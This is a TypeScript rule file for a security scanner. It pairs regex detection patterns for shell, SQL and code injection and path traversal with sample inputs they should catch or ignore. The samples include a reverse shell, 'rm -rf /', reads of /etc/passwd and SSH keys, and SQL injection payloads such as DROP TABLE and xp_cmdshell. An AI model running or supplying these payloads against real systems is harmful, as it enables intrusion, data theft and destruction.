import type { Severity } from '../finding.ts';

/** A form of abuse that shows in the shape of an argument, whatever tool it is for. */
export type ArgumentRule = {
  id: string;
  category: string;
  severity: Severity;
  weight: number;
  message: string;
  /** All quantifiers bounded; global. Tried on the text and on the text with its percent escapes decoded. */
  pattern: RegExp;
  /** Only where the text is a value, not a whole command line or SQL statement. */
  onlyInValue?: 'shell' | 'sql';
  hits: readonly string[];
  misses: readonly string[];
};

const PROGRAM =
  '(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|python3?|perl|php|ruby|ping|sleep|nslookup|dig|rm|net|netstat|ifconfig|ipconfig|systeminfo|dir|type|echo|env|printenv|powershell|cmd|chmod|reboot|shutdown|kill|ps|pwd|ver|tasklist|route|phpinfo|system)';

const SHELL: ArgumentRule[] = [
  {
    id: 'shell.value_breaks_out',
    category: 'shell_injection',
    severity: 'critical',
    weight: 6,
    message: 'A value ends and a command of its own begins.',
    pattern: new RegExp(
      `(?:^\\s{0,8}|^[^\\s;|&]{0,64}["')}\\d.@]|^[^\\s;|&]{0,60}\\.\\w{1,8}\\s?)(?:[;|&\\n\\r]\\s{0,4}){1,3}["'(]?(?:/(?:usr/)?s?bin/\\w|${PROGRAM}\\b)`,
      'gi',
    ),
    onlyInValue: 'shell',
    hits: ['8.8.8.8; cat /etc/passwd', 'report.txt && rm -rf /', '| whoami', '; systeminfo'],
    misses: ['make && make install', 'git pull; echo done', 'Ann & Bob; cat lovers', 'ls -la | sort'],
  },
  {
    id: 'shell.substitution_in_word',
    category: 'shell_injection',
    severity: 'critical',
    weight: 6,
    message: 'A command is spliced into a word.',
    pattern:
      /\w(?:\$\([^)\n]{0,80}\)|`[^`\n]{0,80}`|\$@|\$\{?IFS\}?)\w|\$\{?IFS\b|\w''\w{1,8}''\w|\w(?:\\\w){2,64}/g,
    onlyInValue: 'shell',
    hits: ['who$(echo am)i', 'cat$IFS/etc/passwd', 'who``ami', 'w\\h\\o\\a\\m\\i'],
    misses: ['echo $(date)', 'The price is $5 (net)', 'C:\\Users\\ann'],
  },
  {
    id: 'shell.reverse_shell',
    category: 'shell_injection',
    severity: 'critical',
    weight: 6,
    message: 'Opens a shell to another machine.',
    pattern:
      /\/dev\/(?:tcp|udp)\/[\w.$-]{1,80}\/|\bn(?:c|cat|etcat)\s(?:-\w{1,6}\s){0,4}?[^\n|;]{0,60}-\w{0,4}[ec]\s{0,2}\/bin|bash\s-i\s{0,2}>|\(\)\s{0,2}\{\s{0,2}:;\s{0,2}\}\s{0,2};/g,
    hits: ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'nc -e /bin/sh 1.2.3.4 99', '() { :;}; echo vulnerable'],
    misses: ['nc -zv example.com 443', 'ls /dev/tty'],
  },
];

const SQL: ArgumentRule[] = [
  {
    id: 'sql.always_true',
    category: 'sql_injection',
    severity: 'critical',
    weight: 6,
    message: 'A value ends and a condition that always holds begins.',
    pattern:
      /(?:['")`]|\b\d{1,12}|^)\s{0,4}\)?\s{0,4}(?:\b(?:or|and|having)\b|\|\||&&)\s{0,4}(?:not\s)?['"(]{0,2}(\w{1,20})['")]{0,2}\s{0,4}(?:=|like|<=>)\s{0,4}['"(]{0,2}\1\b/gi,
    onlyInValue: 'sql',
    hits: ["' or '1'='1", '1 OR 1=1', '") or ("a"="a'],
    misses: ['SELECT * FROM t WHERE a = 1 OR a = 2', 'either 1 or 2 = fine', "it's a or b"],
  },
  {
    id: 'sql.stacked',
    category: 'sql_injection',
    severity: 'critical',
    weight: 6,
    message: 'A value ends and a statement of its own begins.',
    pattern:
      /(?:['")]|\b\d{1,12})\s{0,4}\)?;\s{0,4}(?:drop|delete\s{1,8}from|insert\s{1,8}into|update\s{1,8}\w{1,64}\s{1,8}set|alter|exec(?:ute)?|truncate|shutdown|declare|create|waitfor|select(?=[^;\n]{0,80}?(?:\sfrom\s|[\d(@])))\b/gi,
    onlyInValue: 'sql',
    hits: ["'; DROP TABLE users--", '1; exec xp_cmdshell'],
    misses: ['Buy milk; drop by later', 'I said "stop"; select one'],
  },
  {
    id: 'sql.union',
    category: 'sql_injection',
    severity: 'critical',
    weight: 6,
    message: 'A value ends and joins a query of its own.',
    pattern:
      /(?:['")]|\d|^|\*\/)\s{0,4}\)?\s{0,4}(?:\/\*\*?\/)?union\b(?:\s|\/\*[^*\n]{0,20}\*\/){1,6}(?:all\b|distinct\b)?(?:\s|\/\*[^*\n]{0,20}\*\/){0,6}select\b/gi,
    onlyInValue: 'sql',
    hits: ["1' UNION SELECT null, version()--", "' union all select 1,2"],
    misses: ['the union will select a delegate', 'SELECT 1 UNION SELECT 2'],
  },
  {
    id: 'sql.server_function',
    category: 'sql_injection',
    severity: 'high',
    weight: 6,
    message: 'Calls a database function that reaches files, commands or the network.',
    pattern:
      /\bxp_(?:cmdshell|dirtree|regread)\b|\bload_file\s{0,4}\(|\binto\s{1,4}(?:out|dump)file\b|\butl_(?:http|inaddr|smtp)\.|\bdbms_(?:pipe|ldap)\./gi,
    hits: ["exec master..xp_cmdshell 'dir'", "SELECT LOAD_FILE('/etc/hosts')"],
    misses: ['load the file (now)', 'dump file 3'],
  },
  {
    id: 'sql.probe',
    category: 'sql_injection',
    severity: 'high',
    weight: 6,
    message: 'Delays the database, or asks it about itself bit by bit.',
    pattern:
      /waitfor\s{1,4}delay\s{0,4}['"]|\bbenchmark\s{0,4}\(\s{0,4}\d{4,9}|\bpg_sleep\s{0,4}\(|\b(?:or|and|select|'|")\s{0,4}\(?sleep\s{0,4}\(\s{0,4}\d|\b(?:extractvalue|updatexml)\s{0,4}\(|randomblob\s{0,4}\(\s{0,4}\d{6,9}|\b(?:and|or|where)\s{1,4}(?:ascii|length|substr(?:ing)?|ord|mid)\s{0,4}\([^)\n]{0,40}(?:@@|select\b|substr)|\binformation_schema\./gi,
    onlyInValue: 'sql',
    hits: ["1' and sleep(5)#", "1; waitfor delay '0:0:5'--"],
    misses: ['time.sleep(5)', 'benchmark (v2) results', 'I want to sleep (8 hours)'],
  },
  {
    id: 'sql.comment_tail',
    category: 'sql_injection',
    severity: 'high',
    weight: 6,
    message: 'A value ends and the rest of the query is commented out.',
    pattern: /^[^\s'"]{0,40}['"]\s?\){0,4};?\s?(?:--|#|\/\*)[^\n]{0,80}$/g,
    onlyInValue: 'sql',
    hits: ["admin'--", "x') -- "],
    misses: ["it's fine -- really", '"title" # a heading'],
  },
];

const CODE: ArgumentRule[] = [
  {
    id: 'code.value_is_code',
    category: 'code_injection',
    severity: 'high',
    weight: 6,
    message: 'A value is a call that runs code.',
    pattern:
      /^\s{0,8}(?:<\?php\b|<%=?\s|(?:eval|exec|system|passthru|shell_exec|popen|os\.system)\s?\(\s?["'])/gi,
    hits: ["eval('sleep 5')", '<?php system("id"); ?>'],
    misses: ['evaluate (later)', 'import os; run()'],
  },
];

const PATH: ArgumentRule[] = [
  {
    id: 'path.traversal',
    category: 'path_traversal',
    severity: 'high',
    weight: 6,
    message: 'Climbs out of the directory it is meant to stay in.',
    pattern:
      /(?:^|[\s"'=:/\\])(?:\.{2,3}[/\\]{1,2}){3,64}|(?:\.|%2e|%252e|%c0%ae){2}(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c)|(?:%2e|%252e|%c0%ae){2}[/\\]|(?:\.{4}\/\/){2,64}|\.\.(?:\\\/|;\/)|(?:\.\.[/\\]){1,20}(?:etc|proc|windows|winnt|boot\.ini|root)\b/gi,
    hits: [
      '../../../../etc/shadow',
      '..%2f..%2fsecret',
      '....//....//etc/passwd',
      '..\\..\\..\\windows\\win.ini',
    ],
    misses: ['see ../../lib/x.js', 'and so on.../', '../README.md'],
  },
  {
    id: 'path.sensitive_file',
    category: 'path_traversal',
    severity: 'high',
    weight: 6,
    message: 'Names a file with passwords or keys of the machine.',
    pattern:
      /\/etc\/(?:passwd|shadow|sudoers|gshadow|master\.passwd)\b|\/proc\/(?:self|\d{1,7})\/(?:environ|cmdline|mem|fd)\b|\b(?:c:)?[/\\](?:windows|winnt)[/\\](?:win\.ini|system\.ini|repair[/\\]sam|system32[/\\]config[/\\]\w{2,8})\b|\bboot\.ini\b|\/\.ssh\/(?:id_\w{2,10}|authorized_keys)\b|\/\.aws\/credentials\b|\bntds\.dit\b/gi,
    hits: ['/etc/passwd', 'file=C:\\windows\\win.ini', '~/.ssh/id_rsa'],
    misses: ['/etc/hosts', '/proc/cpuinfo', 'my ssh key is lost'],
  },
  {
    id: 'path.null_byte',
    category: 'path_traversal',
    severity: 'high',
    weight: 6,
    message: 'Cuts a path short with a NUL character.',
    pattern: /(?<=[\w.-])(?:%00|\\x00|\0)(?:\.\w{1,5})?$/g,
    hits: ['secret.txt%00.png'],
    misses: ['100%', 'a%200b'],
  },
];

export const ARGUMENT_RULES: readonly ArgumentRule[] = [...SHELL, ...SQL, ...CODE, ...PATH];
